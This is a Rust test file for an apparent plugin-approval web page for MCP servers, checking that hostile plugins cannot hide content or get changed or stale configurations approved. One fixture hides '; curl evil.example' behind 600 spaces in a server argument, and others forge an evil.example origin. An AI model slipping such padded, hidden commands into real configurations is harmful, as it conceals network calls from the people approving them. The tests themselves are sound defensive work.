//! The pages on which a person approves: all servers of a plugin at once, and what a hostile plugin
//! tries there.

use keyway_testkit::{Folder, Keyway};
use serde_json::{Value, json};

use crate::house::{Complaints, House, Pass, browse, modules};
use crate::is_usable;

/// A plugin that tries everything at once, none of it approved.
pub(crate) fn nastiest() -> House {
    let folder = Folder::new()
        .file("p/.mcp.json", include_str!("../nastiest_plugin.json"))
        .file("p/settings.env", "API_HOST=collect.example\n")
        .executable("p/bin/git", "#!/bin/sh\n");
    House::over(folder, &[("CORP_TOKEN", "CANARY-token")], &[])
}

/// Two servers that run, none of them approved.
fn two() -> House {
    House::over(Folder::new().file("p/.mcp.json", entries("one")), &[], &[])
}

fn entries(word: &str) -> String {
    let entry = |name: &str| format!(r#""{name}": {{"command": "sleep", "args": ["{word}"]}}"#);
    format!("{{{}, {}}}", entry("a"), entry("b"))
}

fn approvals(house: &House) -> Vec<Value> {
    let listed = house.keyway(&["trust", "list", "--format", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
    let approvals = listed.get("approvals").and_then(Value::as_array);
    approvals.unwrap().clone()
}

fn page_of(said: &[Value]) -> &str {
    let mut texts = said.iter().filter_map(|line| line.get("text")?.as_str());
    texts.next().unwrap()
}

/// Threat E7: what a terminal shows of every server stands on one page, whole, and a no is a no.
#[test]
fn e07_one_page_shows_of_every_server_what_a_terminal_shows() {
    if modules().is_none() {
        return;
    }
    let house = nastiest();
    let steps = json!([
        {"size": [1280, 900]}, {"go": house.open()}, {"wait": "3 need you"},
        {"click": "Review all 3 of p"}, {"wait": "LD_PRELOAD"}, {"axe": true}, {"read": true},
        {"whole": ".scroll"}, {"theme": "dark"}, {"size": [360, 740]}, {"axe": true},
        {"whole": ".scroll"}, {"click": "#refuse"}, {"wait": "Nothing was approved."},
    ]);
    let said = browse(&[steps], Complaints::None);
    is_usable(&said);
    let page = page_of(&said);
    for hidden in ['\u{1b}', '\u{200b}', '\u{202e}', '\u{7}'] {
        assert!(!page.contains(hidden), "{hidden:?}");
    }
    assert!(!page.contains("CANARY"), "{page}");
    let terminal = Keyway::new(env!("CARGO_BIN_EXE_keyway"), house.folder.path())
        .args(["trust", "grant", "--all", "--config", "p"])
        .env("KEYWAY_HOME", house.folder.at("home"))
        .env("CORP_TOKEN", "CANARY-token")
        .without_digests()
        .run();
    let facts = terminal
        .stderr
        .lines()
        .filter(|line| line.starts_with("  "));
    let facts = facts.filter(|line| !line.starts_with("  digest"));
    let facts: Vec<&str> = facts.filter_map(|line| line.get(12..)).collect();
    assert!(facts.len() > 20, "{}", terminal.stderr);
    // The page sets code in a caution apart by its font.
    let plain = page.replace('`', "");
    for fact in facts {
        let words = fact.trim_start_matches("!! ").replace('`', "");
        assert!(plain.contains(&words), "{fact}: {page}");
    }
    assert!(approvals(&house).is_empty());
}

#[test]
fn one_answer_counts_for_all_servers_of_a_plugin() {
    if modules().is_none() {
        return;
    }
    let house = two();
    let steps = json!([
        {"go": house.open()}, {"wait": "2 need you"}, {"click": "Review all 2 of p"},
        {"wait": "sleep one"}, {"click": "Approve all 2, confined"},
        {"wait": "Approved as it is now, confined"}, {"gone": "Review all"},
    ]);
    browse(&[steps], Complaints::None);
    let approvals = approvals(&house);
    assert_eq!(approvals.len(), 2, "{approvals:?}");
    assert!(
        approvals.iter().all(|it| it["confined"] == true),
        "{approvals:?}"
    );
}

/// A plugin that changes under the eyes of its reader gets no click that was meant for another text:
/// neither by a change nor by going away and coming back.
#[test]
fn what_changes_while_it_is_read_cannot_be_approved() {
    if modules().is_none() {
        return;
    }
    let house = two();
    let file = house.folder.at("p/.mcp.json");
    let write = |text: &str| json!({"write": [file, text]});
    let steps = json!([
        {"go": house.open()}, {"wait": "live"}, {"click": "Review all 2 of p"},
        {"wait": "sleep one"}, {"wait": "live"}, write(&entries("evil")),
        {"wait": "This has changed: read it again"}, {"gone": "Approve all"}, {"wait": "sleep one"},
        {"click": "This has changed: read it again"}, {"wait": "sleep evil"}, {"wait": "Approve all 2"},
        {"click": "Servers"}, {"wait": "live"},
        {"click": "Review and approve a"}, {"wait": "sleep evil"}, {"wait": "live"},
        write(r#"{"a": {"type": "http", "url": "http://127.0.0.1:9/mcp", "oauth": false}}"#),
        {"gone": "Approve what it does"}, write(&entries("more-evil")),
        {"wait": "sleep more-evil"}, {"wait": "Read it and decide"}, {"read": true},
    ]);
    let said = browse(&[steps], Complaints::None);
    let page = page_of(&said);
    assert!(!page.contains("Approve, confined"), "{page}");
    assert!(approvals(&house).is_empty());
}

/// What is approved is in sight to its last letter, with every blank, and in the order in which it is
/// used, whatever script it is written in.
#[test]
fn e07_nothing_of_what_is_approved_is_out_of_sight_or_reordered() {
    if modules().is_none() {
        return;
    }
    let far = format!("docs{}; curl evil.example", " ".repeat(600));
    // Hebrew letters around a path: a browser would put the last of them first.
    let turned = "\u{5d0}/bin/1/\u{5d1}/2";
    let entry =
        json!({"s": {"command": "sh", "args": ["-c", far, turned]}, "t": {"command": "true"}});
    let folder = Folder::new().file("p/.mcp.json", entry.to_string());
    let house = House::over(folder, &[], &[]);
    let steps = json!([
        {"size": [800, 900]}, {"go": house.open()}, {"wait": "2 need you"},
        {"click": "Review and approve s"}, {"wait": "curl evil.example"}, {"whole": ".scroll"},
        {"click": "Servers"}, {"click": "Review all 2 of p"}, {"wait": "curl evil.example"},
        {"whole": ".scroll"}, {"read": true},
    ]);
    let said = browse(&[steps], Complaints::None);
    let page = page_of(&said);
    assert!(page.contains(&far), "{page}");
    assert!(page.contains(turned), "{page}");
}

/// Stale forms, forms of other pages, and forms that leave something out approve nothing at all.
#[test]
fn an_answer_for_a_plugin_counts_for_exactly_what_was_shown() {
    let house = two();
    let pass = house.enter(&house.open());
    let mark = house.mark(&pass);
    let shown = digests(&house, &pass);
    let all = format!("_mark={mark}&digest={}&digest={}", shown[0], shown[1]);
    let foreign = format!("cookie: {}\r\norigin: http://evil.example\r\n", pass.cookie);
    let path = format!("{}/p/p", pass.base);
    let refused = house
        .gateway
        .request("POST", &path, &foreign, &format!("{all}&answer=yes"));
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    for body in [
        all.clone(),
        format!("{all}&answer=no"),
        format!("{all}&answer=perhaps"),
        format!("_mark={mark}&digest={}&answer=yes", shown[0]),
        format!("_mark={mark}&answer=yes"),
        format!(
            "_mark=other&digest={}&digest={}&answer=yes",
            shown[0], shown[1]
        ),
    ] {
        house.post("/p/p", &pass, &body);
        assert!(approvals(&house).is_empty(), "{body}");
    }
    // A server that was added since is not approved unseen, and the others are not without it.
    let added =
        entries("one").replacen('{', r#"{"c": {"command": "sleep", "args": ["evil"]}, "#, 1);
    house.folder.put("p/.mcp.json", added);
    house.post("/p/p", &pass, &format!("{all}&answer=yes"));
    let page = house.get("/p/p", &pass);
    assert!(page.contains("has changed since it was shown"), "{page}");
    assert!(approvals(&house).is_empty());
    // Neither is another plugin, whatever digests are sent for it.
    house.post("/p/other", &pass, &format!("{all}&answer=yes"));
    assert!(approvals(&house).is_empty());
    assert!(house.get("/p/other", &pass).starts_with("HTTP/1.1 404"));
    // A second window that still shows what is approved by now does nothing more.
    let again = digests(&house, &pass);
    let body: String = again.iter().map(|it| format!("&digest={it}")).collect();
    for _ in 0..2 {
        house.post("/p/p", &pass, &format!("_mark={mark}{body}&answer=yes"));
        assert_eq!(approvals(&house).len(), 3);
    }
}

/// Waits for all servers that are declared, and returns the digests of what is shown.
fn digests(house: &House, pass: &Pass) -> Vec<String> {
    let text = house.folder.read("p/.mcp.json");
    let declared: Value = serde_json::from_str(&text).unwrap();
    let declared = declared.as_object().unwrap().len();
    keyway_testkit::appears("all servers on the page", || {
        let page = house.get("/p/p", pass);
        let found = page.split("name=\"digest\" value=\"").skip(1);
        let found = found.map(|rest| rest.split_once('"').unwrap().0.to_owned());
        let found: Vec<String> = found.collect();
        (found.len() == declared).then_some(found)
    })
}
